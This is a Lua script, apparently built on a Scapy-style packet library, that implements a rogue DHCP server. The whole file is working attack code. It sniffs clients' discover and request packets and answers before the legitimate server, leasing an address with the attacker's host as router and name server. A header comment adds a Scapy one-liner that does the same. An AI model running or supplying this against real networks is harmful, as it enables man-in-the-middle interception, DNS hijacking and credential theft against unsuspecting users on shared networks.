-- dhcp_rogue.lua - a rogue DHCP server: it sniffs clients' discovers and
-- requests and answers first, leasing an address of its choosing with
-- itself as router and name server, so the client's traffic leaves
-- through the attacker (RFC 2131 gives the client no way to tell).
--   Scapy: sniff(filter="udp and dst port 67", prn=lambda p: sendp(Ether(dst=p.src)/IP(src=me,
--            dst="255.255.255.255")/UDP(sport=67, dport=68)/BOOTP(op=2, xid=p[BOOTP].xid,
--            yiaddr=ip, chaddr=p[BOOTP].chaddr)/DHCP(options=[("message-type", "offer"), ...])))
local o = require("pkt.cli").parse(arg, "Answer DHCP clients first, as their router and name server.", {
  { "iface", "i", "interface to serve on (default: the first one up)" },
  { "address", "a", "the address to lease", default = "198.51.100.200" },
  { "count", "c", "stop after this many acks (0: never)", default = 0, number = true },
  { "timeout", "t", "stop after this many seconds (0: never)", default = 0, number = true },
})

local iface = o.iface or conf.iface     -- Scapy's default: the default route's
local me = { mac = get_if_hwaddr(iface), ip = get_if_addr(iface) }
local REPLY = { [1] = "offer", [3] = "ack" }     -- discover -> offer, request -> ack

local acks = 0
local function answer(p)
  local opt = {}
  for _, x in ipairs(p[DHCP] and p[DHCP].options or {}) do
    if type(x) == "table" and opt[x[1]] == nil then opt[x[1]] = x[2] end
  end
  local msg = opt["message-type"]
  -- a request names the server whose offer the client took: ours, or
  -- none when it asks again for an address it had
  if not REPLY[msg] or (msg == 3 and (opt.server_id or me.ip) ~= me.ip) then return end
  local b = p[BOOTP]
  sendp(Ether{dst=p[Ether].src, src=me.mac} / IP{src=me.ip, dst="255.255.255.255"}
    / UDP{sport=67, dport=68}
    / BOOTP{op="BOOTREPLY", xid=b.xid, flags=b:getfieldval("flags"), yiaddr=o.address,
            siaddr=me.ip, chaddr=b.chaddr}
    / DHCP{options={{"message-type", REPLY[msg]}, {"server_id", me.ip}, {"lease_time", 3600},
                    {"subnet_mask", "255.255.255.0"}, {"router", me.ip}, {"name_server", me.ip},
                    {"domain", "example.com"}, "end"}},
    {iface=iface, verbose=false})
  if msg == 3 then acks = acks + 1 end
  return ("%s %s for %s: %s, router and name server %s"):format(REPLY[msg], o.address,
    p[Ether].src, p:summary(), me.ip)
end

sniff{iface=iface, filter="udp and dst port 67", prn=answer, store=false,
      stop_filter=function() return o.count > 0 and acks >= o.count end,
      timeout=o.timeout > 0 and o.timeout or nil,
      started_callback=function() print(("rogue DHCP server on %s (%s), leasing %s")
        :format(iface, me.ip, o.address)) io.stdout:flush() end}
print(("leases given: %d"):format(acks))
